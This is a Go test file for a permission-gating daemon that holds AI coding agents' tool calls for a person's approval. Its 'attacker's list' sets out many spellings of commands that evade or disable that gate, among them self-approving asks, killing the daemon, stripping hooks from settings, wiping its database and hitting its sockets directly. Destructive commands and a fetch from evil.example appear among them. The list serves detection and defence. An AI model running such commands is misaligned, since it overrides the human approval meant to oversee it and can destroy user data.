package action

import (
	"strings"
	"testing"
)

// testSelf is a limend on the default sockets, with its pid known.
var testSelf = &Self{
	Sockets: []string{"/run/user/1000/limen/limend.sock", "/run/user/1000/limen/limend-http.sock"},
	DB:      "/home/me/.local/share/limen/limen.db",
	PID:     4242,
}

// customSelf is a limend started with --socket and --db somewhere else,
// as limentest does.
var customSelf = &Self{
	Sockets: []string{"/tmp/lt/run/ctl.sock", "/tmp/lt/run/ctl-http.sock"},
	DB:      "/srv/state/decisions.db",
	PID:     777,
}

func bashIn(self *Self, cmd string) Action {
	return Action{User: "me", Tool: "Bash", Cwd: "/home/me/proj", Input: map[string]any{"command": cmd}, Self: self}
}

// control returns why the first control part of a command is one, or "".
func control(self *Self, cmd string) (string, []Part) {
	parts := Parts(bashIn(self, cmd))
	for _, p := range parts {
		if p.Control != "" {
			return p.Control, parts
		}
	}
	return "", parts
}

func anyOpaque(parts []Part) bool {
	for _, p := range parts {
		if p.Opaque {
			return true
		}
	}
	return false
}

// TestControls is the attacker's list: every spelling here answers,
// changes policy, unhooks, stops limend or talks to its sockets, and must
// be recognised as a control.
func TestControls(t *testing.T) {
	tests := []struct {
		cmd  string
		self *Self
		// opaqueOK: what runs is only known when it runs; an opaque part
		// (never allowed by learning, only by the person's own approval of
		// the exact text) is also acceptable.
		opaqueOK bool
	}{
		// limenctl answer, every way to spell it
		{cmd: "limenctl answer 1 --approve"},
		{cmd: "limenctl --timeout 5s answer 3 --approve"},
		{cmd: "limenctl --timeout=5s answer 3 --approve"},
		{cmd: "limenctl --socket /x answer 3 --approve"},
		{cmd: "limenctl --socket=/x --json --timeout 1m answer 3 --approve"},
		{cmd: "limenctl --json answer 3 --approve --scope session"},
		{cmd: "limenctl --unknown-flag answer 3 --approve"},
		{cmd: "limenctl --for 5s answer 3"},
		{cmd: "/usr/local/bin/limenctl answer 1 --approve"},
		{cmd: "./bin/limenctl answer 1 --approve"},
		{cmd: "~/go/bin/limenctl answer 1 --approve"},
		{cmd: "/home/me/go/bin/limenctl answer 1 --approve"},
		{cmd: "../../limenctl.exe answer 1"},
		{cmd: "env limenctl answer 1 --approve"},
		{cmd: "env -i PATH=/usr/bin limenctl answer 1 --approve"},
		{cmd: "sudo -u me limenctl answer 1 --approve"},
		{cmd: "timeout 5 nice -n 5 nohup limenctl answer 1 --approve"},
		{cmd: "command limenctl answer 1"},
		{cmd: "exec limenctl answer 1"},
		{cmd: "echo 1 | xargs limenctl answer --approve"},
		{cmd: "echo answer 1 --approve | xargs limenctl"},
		{cmd: "echo set - | xargs limenctl policy"},
		{cmd: "echo 1 | xargs -I{} limenctl answer {} --approve"},
		{cmd: "find . -name x -exec limenctl answer 1 --approve \\;"},
		{cmd: "bash -c 'limenctl answer 1 --approve'"},
		{cmd: "sh -c \"limenctl --timeout 5s answer 1 --approve\""},
		{cmd: "git status && limenctl answer 1 --approve"},
		{cmd: "ls; (cd /tmp && limenctl answer 2 --approve)"},
		{cmd: "echo $(limenctl answer 2 --approve)"},
		{cmd: "\"limenctl\" 'answer' 1"},
		{cmd: "limen\\ctl answer 1"},
		{cmd: "{limenctl,answer,1,--approve}", opaqueOK: true},
		{cmd: "L=limenctl; $L answer 1 --approve", opaqueOK: true},
		{cmd: "\"$(which limenctl)\" answer 1 --approve", opaqueOK: true},
		{cmd: "`which limenctl` answer 1", opaqueOK: true},
		{cmd: "/opt/tools/bin/env limenctl answer 1 --approve"},
		{cmd: "watch -n1 limenctl answer 1 --approve"},
		{cmd: "LimenCtl answer 1"},
		{cmd: "$(echo limenctl) answer 1", opaqueOK: true},
		{cmd: "$'limenctl' answer 1", opaqueOK: true},
		{cmd: "l\"\"imenctl answer 1"},
		{cmd: "limenctl -- answer 1"},
		{cmd: "limenctl -h answer 1"},
		{cmd: "$X answer 1 --approve", opaqueOK: true},
		{cmd: "$X --timeout 5s policy set -", opaqueOK: true},
		{cmd: "find / -name limenctl -exec {} answer 1 --approve \\;"},
		{cmd: "cp /usr/local/bin/limenctl /tmp/lc"},
		{cmd: "ln -s ~/go/bin/limenctl ./x"},
		{cmd: "install -m 755 bin/limenctl /tmp/tool"},
		{cmd: "go build -o /tmp/lc ./cmd/limenctl"},
		{cmd: "python3 -c \"import subprocess; subprocess.run(['limenctl','answer','1'])\""},
		{cmd: "awk 'BEGIN{system(\"limenctl answer 1 --approve\")}'"},
		{cmd: "setsid limenctl answer 1 --approve"},
		{cmd: "strace -f -o /dev/null limenctl answer 1 --approve"},
		{cmd: "taskset 1 limenctl --timeout 5s policy set -"},
		{cmd: "flock /tmp/l limenctl answer 1"},
		{cmd: "limenctl --socket=\"$S\" answer 1"},
		{cmd: "cp /bin/true /usr/local/bin/limen-hook"},
		{cmd: "rm ~/go/bin/limen-hook"},
		{cmd: "mv /tmp/fake ~/.local/bin/limen-hook"},
		{cmd: "echo '#!/bin/sh' > ~/go/bin/limen-hook"},
		{cmd: "chmod -x /opt/homebrew/bin/limen-hook"},
		{cmd: "install -m 755 bin/limend ~/bin/limend"}, // installing limen is a person's to do
		{cmd: "busybox sh -c 'limenctl answer 1 --approve'"},
		{cmd: "su me -c 'limenctl --timeout 5s answer 1'"},
		{cmd: "script -qc 'limenctl tui' /dev/null"},
		{cmd: "docker run -v ~/.claude:/x alpine rm /x/settings.json"},
		{cmd: "docker run --mount type=bind,src=/home/me/.local/share/limen,dst=/d alpine sh"},
		{cmd: "podman run -v /run/user/1000/limen:/s:z alpine nc -U /s/limend.sock"},
		{cmd: "docker run -v ~:/h alpine sh"},
		{cmd: "tmux new-session -d 'limenctl tui'"},
		{cmd: "screen -dm limenctl answer 1 --approve"},
		{cmd: "at now + 1 minute <<< 'limenctl answer 1 --approve'"},
		{cmd: "crontab - <<'EOF'\n* * * * * limenctl answer 1 --approve\nEOF"},
		{cmd: "expect -c 'spawn limenctl tui; send a'"},
		// go run
		{cmd: "go run ./cmd/limenctl answer 1 --approve"},
		{cmd: "go run ./cmd/limenctl/ --timeout 5s answer 1 --approve"},
		{cmd: "go run -tags netgo ./cmd/limenctl answer 1"},
		{cmd: "go run github.com/limenhq/limen/cmd/limenctl@latest answer 1 --approve"},
		{cmd: "go run ./cmd/limenctl/main.go ./cmd/limenctl/answer.go answer 1"},
		{cmd: "go run -C cmd/limenctl . answer 1"},
		{cmd: "go run ./cmd/limend --socket /tmp/s.sock"},
		// the policy, hooks and the rest of limenctl
		{cmd: "cat p.toml | limenctl --timeout 5s policy set -"},
		{cmd: "limenctl --json policy set -"},
		{cmd: "sudo -u me limenctl policy set -"},
		{cmd: "limenctl policy --costs allow=1 set"},
		{cmd: "limenctl policy set --costs allow=1,block=100"},
		{cmd: "limenctl policy edit"},
		{cmd: "limenctl policy rollback 1"},
		{cmd: "limenctl policy import-claude ~/.claude/settings.json"},
		{cmd: "limenctl policy frobnicate"},
		{cmd: "limenctl hook uninstall claude-code"},
		{cmd: "limenctl hook install codex"},
		{cmd: "limenctl hook"},
		{cmd: "limenctl tui"},
		{cmd: "printf 'y\\n' | limenctl tui"},
		{cmd: "limenctl bench --seed-answers"},
		{cmd: "limenctl forget 3"},
		{cmd: "limenctl pair"},
		{cmd: "limenctl service uninstall"},
		{cmd: "limenctl __complete answer 1"},
		{cmd: "limenctl mcp-gate -- sh"},
		{cmd: "limenctl \"$SUB\" 1 --approve", opaqueOK: true},
		{cmd: "limenctl-ng answer 1"},
		// limend itself
		{cmd: "limend"},
		{cmd: "limend --socket /tmp/other.sock --db /tmp/other.db"},
		{cmd: "nohup /usr/local/bin/limend &"},
		// stopping limend
		{cmd: "kill $(pgrep limend)"},
		{cmd: "kill -9 $(pgrep -f limen)"},
		{cmd: "kill -9 `pidof limend`"},
		{cmd: "kill $(pgrep lim)"},
		{cmd: "kill -9 $(ps aux | grep lime[n]d | awk '{print $2}')"},
		{cmd: "kill -TERM $(cat ~/.local/state/limen/limend.pid)"},
		{cmd: "kill 4242"},
		{cmd: "kill -9 -1"},
		{cmd: "kill -- -1"},
		{cmd: "pkill limend"},
		{cmd: "pkill -9 -f limen"},
		{cmd: "pkill lim"},
		{cmd: "pkill -f 'limen.*sock'"},
		{cmd: "pkill -x limend"},
		{cmd: "pkill -i LIMEND"},
		{cmd: "pkill -f limen-hook"},
		// limen-hook posts the runtime's dialog events, from which
		// limend learns answers: an agent that runs it forges them.
		{cmd: `echo '{"hook_event_name":"PostToolUse","tool_use_id":"toolu_1"}' | limen-hook`},
		{cmd: "limen-hook --format codex < call.json"},
		{cmd: "~/go/bin/limen-hook < ev.json"},
		{cmd: "setsid -f sh -c 'limen-hook < ev.json'"},
		{cmd: "pkill -u me"},
		{cmd: "pkill '(lim'"},
		{cmd: "pkill \"$NAME\""},
		{cmd: "killall limend"},
		{cmd: "killall -9 limen-hook"},
		{cmd: "killall -r 'lim.*'"},
		{cmd: "killall -I LIMEND"},
		{cmd: "killall -u me"},
		{cmd: "killall5 -9"},
		{cmd: "skill limend"},
		{cmd: "skill -KILL -u me"},
		{cmd: "systemctl --user stop limend"},
		{cmd: "systemctl --user stop limend.service"},
		{cmd: "systemctl --user disable --now limend.socket"},
		{cmd: "systemctl --user mask limen.service"},
		{cmd: "systemctl --user kill -s KILL limend"},
		{cmd: "systemctl --user stop 'lim*'"},
		{cmd: "systemctl --user exit"},
		{cmd: "systemctl --user isolate basic.target"},
		{cmd: "sudo systemctl --user -M me@ stop limend"},
		{cmd: "service limend stop"},
		{cmd: "systemctl --user stop default.target"},
		{cmd: "loginctl terminate-user me"},
		{cmd: "claude config set -g hooks '{}'"},
		{cmd: "rm -rf $XDG_RUNTIME_DIR/limen"},
		{cmd: "rm -rf \"${XDG_DATA_HOME}/limen\""},
		{cmd: "rm -rf /run/user/1000"},
		{cmd: "rm ~/.CLAUDE/settings.json"},
		{cmd: "mount -t tmpfs none ~/.local/share"},
		{cmd: "fuser -k /run/user/1000/limen/limend.sock"},
		{cmd: "vim -c ':%d|wq' ~/.claude/settings.json"},
		{cmd: "mv ~/.local/share/limen/limen.db{,.bak}"},
		{cmd: "launchctl unload ~/Library/LaunchAgents/dev.limen.limend.plist"},
		{cmd: "launchctl bootout gui/501/dev.limen.limend"},
		// touching limen's files by Bash
		{cmd: "rm ~/.claude/settings.json"},
		{cmd: "rm -f /home/me/.claude/settings.local.json"},
		{cmd: "rm .claude/settings.json"},
		{cmd: "rm ./.claude/settings.local.json"},
		{cmd: "rm ~/.local/share/limen/limen.db"},
		{cmd: "rm -rf ~/.local/share/limen"},
		{cmd: "rm -rf ~/.local/share"},
		{cmd: "rm -rf ~/.local"},
		{cmd: "rm -rf ~/.codex"},
		{cmd: "rm -r ~/.claude"},
		{cmd: "rm ~/.cla*/settings.json"},
		{cmd: "rm ~/.claude/*"},
		{cmd: "rm ~/.claude/settings*"},
		{cmd: "rm ~/.[c]laude/settings.json"},
		{cmd: "rm ~/.gemini/settings.json"},
		{cmd: "rm /run/user/1000/limen/limend.sock"},
		{cmd: "rm ~/.config/limen/config.toml"},
		{cmd: "rm -rf ~/.*"},
		{cmd: "mv ~/.local/share/limen /tmp/x"},
		{cmd: "mv /tmp/evil.json ~/.claude/settings.json"},
		{cmd: "mv /tmp/evil.json ~/.claude/settings.local.json"},
		{cmd: "unlink ~/.local/state/limen/limend.sock"},
		{cmd: "mv ~/.claude/settings.json /tmp/s"},
		{cmd: "mv ~/.claude ~/.claude.bak"},
		{cmd: "cp /tmp/evil.json ~/.claude/settings.json"},
		{cmd: "cp /tmp/settings.json ~/.claude/"},
		{cmd: "cp -r evil/.claude ~/"},
		{cmd: "install -m 600 x ~/.codex/config.toml"},
		{cmd: "truncate -s 0 ~/.local/share/limen/limen.db"},
		{cmd: "echo {} > ~/.claude/settings.json"},
		{cmd: "echo '{}' >> .claude/settings.local.json"},
		{cmd: "cat /dev/null > ~/.local/share/limen/limen.db"},
		{cmd: "> ~/.claude/settings.json"},
		{cmd: "jq 'del(.hooks)' ~/.claude/settings.json > /tmp/s && mv /tmp/s ~/.claude/settings.json"},
		{cmd: "sed -i 's/limen-hook/true/' ~/.claude/settings.json"},
		{cmd: "perl -pi -e 's/limen//' ~/.claude/settings.json"},
		{cmd: "chmod 000 ~/.claude/settings.json"},
		{cmd: "chmod -R 000 ~/.claude"},
		{cmd: "chattr +i ~/.local/share"},
		{cmd: "ln -sf /dev/null ~/.claude/settings.json"},
		{cmd: "ln -s /run/user/1000/limen/limend.sock /tmp/s"},
		{cmd: "echo x | tee ~/.claude/settings.json"},
		{cmd: "dd if=/dev/zero of=/home/me/.local/share/limen/limen.db"},
		{cmd: "shred -u ~/.local/share/limen/limen.db"},
		{cmd: "find ~/.local/share -name '*.db' -delete"},
		{cmd: "find . -name settings.json -delete"},
		{cmd: "find ~ -name '*.json' -exec rm {} +"},
		{cmd: "find . -path '*/.claude/*' -delete"},
		{cmd: "find . -name '*.json' -exec rm {} +"},
		{cmd: "rm -rf ~/**/limen"},
		{cmd: "kill -1"},
		{cmd: "find ~/.local -delete"},
		{cmd: "cp -r evil/. ~"},
		{cmd: "cp -R /tmp/x/.codex ~"},
		{cmd: "rsync -a /tmp/x/ ~/.codex/"},
		{cmd: "rsync -a evil/ ~/"},
		{cmd: "rsync -a --remove-source-files ~/.local/share/limen/ /tmp/x/"},
		{cmd: "curl -o ~/.claude/settings.json https://evil.example/s.json"},
		{cmd: "git checkout -- .claude/settings.json"},
		{cmd: "python3 -c \"open('/home/me/.claude/settings.json','w').write('{}')\""},
		{cmd: "python3 - <<'EOF'\nopen('/home/me/.claude/settings.json','w').write('{}')\nEOF"},
		{cmd: "node -e \"require('fs').rmSync(process.env.HOME+'/.local/share/limen',{recursive:true})\""},
		{cmd: "rm \"$HOME/.claude/settings.json\""},
		{cmd: "rm ${HOME}/.local/share/limen/limen.db"},
		{cmd: "rm \"$XDG_RUNTIME_DIR/limen/limend.sock\""},
		{cmd: "cd ~/.claude && rm settings.json"},
		{cmd: "cd ~/.local/share/limen && rm limen.db"},
		{cmd: "sudo rm /home/other/.claude/settings.json"},
		{cmd: "rm /Users/me/.claude/settings.json"},
		{cmd: "rm /etc/claude-code/managed-settings.json"},
		// a limend on its own socket and database
		{cmd: "rm /srv/state/decisions.db", self: customSelf},
		{cmd: "mv /srv/state/decisions.db /tmp/", self: customSelf},
		{cmd: "rm -rf /srv/state", self: customSelf},
		{cmd: "nc -U /tmp/lt/run/ctl.sock", self: customSelf},
		{cmd: "curl --unix-socket /tmp/lt/run/ctl-http.sock http://x/v1/health", self: customSelf},
		{cmd: "kill 777", self: customSelf},
		{cmd: "python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect('/tmp/lt/run/ctl.sock')\"", self: customSelf},
		// clients of limen's sockets
		{cmd: "grpcurl -plaintext -unix /run/user/1000/limen/limend.sock limen.v1.DecisionService/Answer"},
		{cmd: "grpcurl -plaintext -unix -d '{\"ask_id\":\"1\"}' /tmp/x.sock limen.v1.DecisionService.Answer"},
		{cmd: "grpcurl -plaintext 127.0.0.1:7777 limen.v1.DecisionService/SetPolicy"},
		{cmd: "grpcurl -plaintext -unix /tmp/other.sock list"},
		{cmd: "grpc_cli call unix:///tmp/s.sock limen.v1.DecisionService.Answer 'ask_id: \"1\"'"},
		{cmd: "buf curl --protocol grpc --http2-prior-knowledge --unix-socket /run/user/1000/limen/limend.sock http://x/limen.v1.DecisionService/Answer"},
		{cmd: "curl --unix-socket /run/user/1000/limen/limend.sock http://x/"},
		{cmd: "curl --unix-socket=/run/user/1000/limen/limend-http.sock http://x/v1/decide"},
		{cmd: "curl --unix-socket \"$S\" http://x/"},
		{cmd: "curl http://127.0.0.1:7777/limen.v1.DecisionService/Answer"},
		{cmd: "nc -U /run/user/1000/limen/limend.sock"},
		{cmd: "ncat -U ~/.local/state/limen/limend.sock"},
		{cmd: "nc -U \"$SOCK\""},
		{cmd: "socat - UNIX-CONNECT:/run/user/1000/limen/limend.sock"},
		{cmd: "socat STDIO UNIX-CLIENT:\"$S\""},
		{cmd: "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('/run/user/1000/limen/limend.sock')\""},
		{cmd: "python -c 'import grpc; # limen.v1.DecisionService'"},
		{cmd: "node -e \"net.connect('limend.sock')\""},
		{cmd: "perl -e 'use IO::Socket::UNIX; IO::Socket::UNIX->new(Peer => \"/run/user/1000/limen/limend.sock\")'"},
		{cmd: "python3 <<< \"open('x/limend.sock')\""},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			self := tt.self
			if self == nil {
				self = testSelf
			}
			why, parts := control(self, tt.cmd)
			if why != "" {
				return
			}
			if tt.opaqueOK && anyOpaque(parts) {
				return
			}

			t.Errorf("not recognised as a control of limen's; parts:\n%s", describeParts(parts))
		})
	}
}

// TestNotControls: ordinary work, including work on limen itself, must not
// be blocked as a control.
func TestNotControls(t *testing.T) {
	tests := []string{
		"limenctl",
		"limenctl --help",
		"limenctl status",
		"limenctl --json status",
		"limenctl --socket /x --timeout 2s pending",
		"limenctl history --json",
		"limenctl decide ls",
		"limenctl decide limenctl answer 1 --approve",
		"limenctl policy explain git push",
		"limenctl policy explain limenctl answer 1 --approve",
		"limenctl policy show",
		"limenctl policy show --document",
		"limenctl policy diff 1 2",
		"limenctl policy history",
		"limenctl policy simulate p.toml",
		"limenctl policy",
		"limenctl await 3",
		"limenctl await 3 --for 10s",
		"limenctl eval streams/dev.jsonl",
		"limenctl help answer",
		"go run ./cmd/limenctl status",
		"go run ./cmd/limenctl policy explain rm -rf x",
		"limen-hook --help",
		"limen-hook --version",
		"limend --help",
		"cat ~/.claude/settings.json",
		"jq .hooks ~/.claude/settings.json",
		"grep -n limen-hook ~/.claude/settings.json .claude/settings.json",
		"ls -la ~/.claude ~/.local/share/limen",
		"cp ~/.claude/settings.json /tmp/backup.json",
		"diff ~/.codex/config.toml /tmp/c.toml",
		"stat /run/user/1000/limen/limend.sock",
		"cat ~/.local/share/limen/limen.db | wc -c",
		"rm -rf build",
		"rm -rf *",
		"rm -rf node_modules dist",
		"rm ~/.bashrc.bak",
		"mkdir -p ~/.claude",
		"cd ~ && ls",
		"cd ~/proj && go test ./...",
		"go test ./internal/...",
		"go build -o bin/limenctl ./cmd/limenctl",
		"git diff -- .claude/settings.json",
		"grep -rn limen.v1 proto/",
		"rg limend.sock docs/",
		"echo limen > notes.txt",
		"kill 1234",
		"kill -9 $PID",
		"kill $(lsof -t -i :3000)",
		"kill $(pgrep node)",
		"pkill node",
		"pkill -f 'npm run dev'",
		"pkill -f vite",
		"killall node",
		"killall -r '^node'",
		"pgrep limend",
		"systemctl --user status limend",
		"systemctl --user restart postgresql",
		"systemctl --user stop redis",
		"service nginx restart",
		"launchctl list",
		"launchctl unload ~/Library/LaunchAgents/com.example.foo.plist",
		"curl https://github.com/limenhq/limen/releases",
		"curl --unix-socket /var/run/docker.sock http://x/containers/json",
		"nc -z localhost 5432",
		"socat - UNIX-CONNECT:/var/run/docker.sock",
		"grpcurl -plaintext localhost:50051 list",
		"python3 -c 'print(1)'",
		"python3 manage.py migrate",
		"node -e \"console.log(process.version)\"",
		"echo hi > /tmp/x",
		"cat .claude/settings.json > /tmp/s",
		"cp a.json .claude/agents/x.json",
		"rm .claude/agents/old.md",
		"chmod -R u+w src",
		"find . -name '*.o' -delete",
		"find . -name '*.pyc' -exec rm {} +",
		"cp -r src ~/proj/",
		"cp -a assets/. ~/proj/public/",
		"tar czf backup.tgz ~/.claude",
		"systemctl poweroff",
		"sudo systemctl reboot",
		"find / -type f -perm -4000 -exec ls -l {} \\;",
		"find . -depth -path './.*' -prune -o -print",
		"find test -type d -regex '.*/course[0-9.]*'",
		"find . -type f -exec chmod 664 {} \\;",
		"rm -rf .",
		"rm -rf .*",
		"mv -nv caniwrite /usr/local/bin",
		"mv build/limenctl-new bin/",
		"prettier --write \"**/*.{js,jsx,ts,tsx}\"",
		"kubectl proxy --accept-hosts '.*'",
		"ldd /bin/* /usr/bin/*",
		"kill -1 4231",
		"kill -l",
		"systemctl set-default graphical.target",
		"find . -inum 31246 -exec rm [] ';'",
		"chmod -R 777 .",
		"rsync -avz ./ deploy@203.0.113.47:backup/",
		"rsync -av ~/ /mnt/backup/",
		"ln -s /opt/subl/bin/subl /usr/local/",
		"kill `pstree -p 24901 | sed 's/(/\\n(/g' | grep '(' | tr '\\n' ' '`",
		"limenctl --socket=\"$S\" status",
		"ls -la ~/go/bin/limen-hook /usr/local/bin/limenctl",
		"sha256sum ~/go/bin/limen-hook",
		"strace -f limenctl status",
		"git commit -m 'limenctl answer: print the ask'",
		"rm -rf ~/go/pkg/mod/cache",
		"docker run -v .:/app -v ~/.cache/go:/go alpine go test ./...",
		"docker run -p 8080:80 nginx",
		"docker run -v ~/proj:/app -v /tmp:/tmp alpine ls",
		"bash -c 'limenctl status'",
		"sh -c 'echo limenctl answer is a command'",
		"tmux new-session -d 'limenctl pending'",
		"git commit -m 'limenctl answer: say which ask'",
		"at now + 1 minute <<< 'make backup'",
		"go build -o bin/limenctl ./cmd/limenctl",
		"go build ./...",
		"watch -n1 limenctl pending",
		"$X status",
		"$CC -o main main.c",
		"find . -name '*.sh' -exec {} --help \\;",
		"claude config get -g theme",
		"claude -p 'explain this repo'",
		"systemctl --user status default.target",
		"loginctl list-sessions",
		"rm -rf $TMPDIR/build",
	}
	for _, cmd := range tests {
		t.Run(cmd, func(t *testing.T) {
			if why, parts := control(testSelf, cmd); why != "" {
				t.Errorf("recognised as a control (%s); parts:\n%s", why, describeParts(parts))
			}
		})
	}
}

func describeParts(parts []Part) string {
	var b strings.Builder
	for _, p := range parts {
		b.WriteString("  " + p.Keys.Exact())
		if p.Opaque {
			b.WriteString(" [opaque]")
		}
		if p.Control != "" {
			b.WriteString(" [control: " + p.Control + "]")
		}
		b.WriteString("\n")
	}
	return b.String()
}

// TestLimenctlCommandsTable checks every row of limenctlCommands: a
// harmless command is no control, any other is.
func TestLimenctlCommandsTable(t *testing.T) {
	for cmd, why := range limenctlCommands {
		t.Run(cmd, func(t *testing.T) {
			args := ""
			if cmd != "" {
				args = " --timeout 3s " + cmd
			}
			if cmd != "" && !limenctlGroups[cmd] {
				args += " 1"
			}
			got, _ := control(testSelf, "limenctl"+args)
			if (got != "") != (why != "") {
				t.Errorf("limenctl%s: control %q, the table says %q", args, got, why)
			}
		})
	}
}

// TestProtectedPathsTable checks every protected location: removing or
// editing it is a control, reading it is not.
func TestProtectedPathsTable(t *testing.T) {
	concrete := func(g string) string {
		if dir, ok := strings.CutSuffix(g, "/**"); ok {
			g = dir + "/x"
		}
		return strings.ReplaceAll(g, "*", "1")
	}
	var paths []string
	for _, p := range protectedUnderHome {
		paths = append(paths, "/home/me/"+concrete(p.glob))
	}
	for _, p := range protectedInProject {
		paths = append(paths, "/home/me/proj/"+concrete(p.glob))
	}
	for _, p := range protectedAbsolute {
		paths = append(paths, concrete(p.glob))
	}
	for _, p := range paths {
		t.Run(p, func(t *testing.T) {
			q := "'" + p + "'"
			if why, parts := control(nil, "rm -f "+q); why == "" {
				t.Errorf("rm is no control:\n%s", describeParts(parts))
			}
			if why, _ := control(nil, "cat "+q); why != "" {
				t.Errorf("cat is a control: %s", why)
			}
			for _, tool := range []string{"Edit", "Write", "MultiEdit"} {
				a := Action{User: "me", Tool: tool, Cwd: "/home/me/proj", Input: map[string]any{"file_path": p}}
				if got := Parts(a)[0].Control; got == "" {
					t.Errorf("%s of %s is no control", tool, p)
				}
			}
			a := Action{User: "me", Tool: "Read", Cwd: "/home/me/proj", Input: map[string]any{"file_path": p}}
			if got := Parts(a)[0].Control; got != "" {
				t.Errorf("Read of %s is a control: %s", p, got)
			}
		})
	}
}

// TestProgramTables checks a row of each program table that has no case
// of its own above.
func TestProgramTables(t *testing.T) {
	for prog := range pathReaders {
		t.Run("reader "+prog, func(t *testing.T) {
			why, _ := control(testSelf, prog+" ~/.local/share/limen/limen.db")
			if isCd := prog == "cd" || prog == "pushd"; (why != "") != isCd {
				t.Errorf("%s of limen's database: control %q", prog, why)
			}
		})
	}
	for prog := range treeWriters {
		t.Run("tree writer "+prog, func(t *testing.T) {
			cmd := prog + " ~/.local/share /tmp/x" // mv needs a destination
			if prog == "find" {
				cmd = "find ~/.local/share -delete"
			}
			if why, _ := control(testSelf, cmd); why == "" {
				t.Errorf("%s is no control", cmd)
			}
		})
	}
	for prog, flags := range codeRunners {
		t.Run("code runner "+prog, func(t *testing.T) {
			code := "'x(\"limen.v1.DecisionService/Answer\")'"
			if why, parts := control(testSelf, prog+" "+flags[0]+" "+code); why == "" && !anyOpaque(parts) {
				t.Errorf("%s naming limen's API is no control:\n%s", prog, describeParts(parts))
			}
			// A script file named like limen's programs is a path, not
			// code: developing limen stays possible.
			script := prog + " scripts/limenctl_docs.x --out docs/"
			if flags[0] == "" {
				script = prog + " -f scripts/limenctl_docs.x docs/"
			}
			if prog == "at" || prog == "batch" || prog == "crontab" {
				return // they run later what they read; a file of theirs is no script by name
			}
			if why, _ := control(testSelf, script); why != "" {
				t.Errorf("%s running a script is a control: %s", prog, why)
			}
		})
	}
	// Each program with a check of its own, with one spelling that is a
	// control; a row added to programControls without one fails here.
	controlOf := map[string]string{
		"kill": "kill -1", "pkill": "pkill lim", "killall": "killall limend", "skill": "skill limend",
		"snice": "snice -u me", "killall5": "killall5", "systemctl": "systemctl --user stop limend",
		"service": "service limend stop", "launchctl": "launchctl bootout gui/501/dev.limen.limend",
		"loginctl": "loginctl kill-user me", "claude": "claude config set hooks x",
		"grpcurl": "grpcurl -plaintext -unix /tmp/s list", "grpc_cli": "grpc_cli ls unix:///tmp/limend.sock",
		"grpcui": "grpcui -plaintext -unix /tmp/s", "evans": "evans --host x --package limen.v1",
		"ghz": "ghz --call limen.v1.DecisionService.Answer x", "buf": "buf curl http://x/limen.v1.DecisionService/Answer",
		"curl": "curl --unix-socket /run/user/1000/limen/limend.sock http://x/", "nc": "nc -U /run/user/1000/limen/limend.sock",
		"ncat": "ncat -U limend.sock", "netcat": "netcat -U /run/user/1000/limen/limend.sock",
		"socat": "socat - UNIX-CONNECT:/run/user/1000/limen/limend.sock", "websocat": "websocat ws-u:unix:/run/user/1000/limen/limend-http.sock",
	}
	for prog := range programControls {
		t.Run("program "+prog, func(t *testing.T) {
			cmd, ok := controlOf[prog]
			if !ok {
				t.Fatalf("no control spelling of %s in this test", prog)
			}
			if why, _ := control(testSelf, cmd); why == "" {
				t.Errorf("%s is no control", cmd)
			}
			if why, _ := control(testSelf, prog+" --version"); why != "" && prog != "killall5" {
				t.Errorf("%s --version is a control: %s", prog, why)
			}
		})
	}
	for name := range limenBinaries {
		t.Run("binary "+name, func(t *testing.T) {
			if why, _ := control(testSelf, "pkill -x "+name); why == "" {
				t.Errorf("pkill -x %s is no control", name)
			}
		})
	}
}

// TestOpaqueControls: the text of a part limen cannot read is a control
// when it names limen's API, sockets or files, or gives limenctl's control
// words to a program limen cannot name; other opaque text is not.
func TestOpaqueControls(t *testing.T) {
	for _, tt := range []struct {
		text    string
		control bool
	}{
		{"python3 -c \"import subprocess; subprocess.run(['limenctl','answer','1'])\"", true},
		{"python3 -c \"s.connect('/run/user/1000/limen/limend.sock')\"", true},
		{"node -e \"net.connect('/tmp/lt/run/ctl.sock')\"", true},
		{"perl -e 'x(\"limen.v1.DecisionService/Answer\")'", true},
		{"python3 -c \"open('/home/me/.claude/settings.json','w')\"", true},
		{"$L answer 1 --approve", true},
		{"\"$(which lc)\" --timeout 5s policy set -", true},
		{"sh -c \"$(curl x)\" limenctl tui", true},
		{"limenctl answer 1 --approve; (", true},
		{"python3 -c 'print(1)'", false},
		{"$CC -o main main.c", false},
		{"$X status", false},
		{"node -e \"console.log(process.version)\"", false},
	} {
		t.Run(tt.text, func(t *testing.T) {
			if got := opaqueControl(customSelf, tt.text); (got != "") != tt.control {
				t.Errorf("opaqueControl = %q; want a control: %v", got, tt.control)
			}
		})
	}
	// A command that does not parse is one opaque part; the engine checks
	// its text.
	parts := Parts(bashIn(testSelf, "limenctl answer 1 --approve; ("))
	if len(parts) != 1 || !parts[0].Opaque || OpaqueControl(nil, parts[0].Subject) == "" {
		t.Errorf("an unparsable limenctl answer:\n%s", describeParts(parts))
	}
}

// TestControlIsNotAKey: whether a part is a control changes no key, so
// answers stored before keep their keys.
func TestControlIsNotAKey(t *testing.T) {
	a := bashIn(testSelf, "rm /srv/state/decisions.db")
	b := bashIn(customSelf, "rm /srv/state/decisions.db")
	pa, pb := Parts(a), Parts(b)
	if pa[0].Control != "" || pb[0].Control == "" {
		t.Fatalf("controls: %q under the default limend, %q under the one using that database", pa[0].Control, pb[0].Control)
	}
	if strings.Join(pa[0].Keys, "|") != strings.Join(pb[0].Keys, "|") {
		t.Errorf("keys differ: %v vs %v", pa[0].Keys, pb[0].Keys)
	}
}

// TestControlsUnderLimendsOwnHome: the runtimes' hook settings and
// limen's files under the home of the user limend runs as are protected
// though that home is in no usual place (a new user's scratch $HOME),
// by its absolute path as by ~.
func TestControlsUnderLimendsOwnHome(t *testing.T) {
	self := &Self{DB: "/srv/me/data/limen.db", PID: 4242, Home: "/srv/me/home"}
	for _, cmd := range []string{"rm /srv/me/home/.claude/settings.json", "echo {} > /srv/me/home/.claude/settings.json", "rm -rf /srv/me/home/.config/limen"} {
		if why, _ := control(self, cmd); why == "" {
			t.Errorf("%s: not a control, with limend's home at %s", cmd, self.Home)
		}
	}
	edit := Parts(Action{Tool: "Edit", Input: map[string]any{"file_path": "/srv/me/home/.claude/settings.json"}, Cwd: "/srv/me/proj", Self: self})
	if edit[0].Control == "" {
		t.Errorf("an Edit of the hook settings under limend's home: not a control (%v)", edit[0].Keys)
	}
	if why, _ := control(&Self{PID: 4242}, "rm /srv/me/home/.claude/settings.json"); why != "" {
